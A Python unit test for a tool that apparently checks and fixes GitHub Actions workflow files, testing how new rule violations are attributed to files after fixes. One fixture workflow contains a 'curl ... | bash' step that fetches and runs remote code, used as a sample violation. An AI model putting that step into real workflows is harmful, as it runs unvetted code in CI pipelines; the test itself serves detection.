"""Where fixes that were tried together did harm."""

from collections import Counter

from fixers import contract
from fixers.contract import State
from fixers.engine import DEFAULTS
from fixers.model.trees import MemoryTree
from fixers.rules import RULES

HEAD = (
    b"on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
    b"      - uses: actions/checkout@v4\n"
)
HERE, THERE = ".github/workflows/a.yml", ".github/workflows/b.yml"


def state(**files: bytes) -> State:
    paths = {HERE: files["here"], THERE: files["there"]}
    return State(MemoryTree(paths), DEFAULTS, RULES)


def test_what_moved_is_not_to_blame_for_what_came_up() -> None:
    missing = HEAD + b"      - run: bash tools/no.sh\n"
    hidden = HEAD + b"      - run: curl -s https://example.com/x | bash\n"
    before, after = state(here=HEAD, there=HEAD), state(here=missing, there=hidden)
    rules = dict(list(after.places))
    assert rules.keys() == {HERE, THERE}
    more = Counter({rules[HERE]: 1})
    assert contract._worse_places(before, after, [], more) == {HERE: rules[HERE]}
    assert contract._worse_places(before, after, [], Counter()) == rules
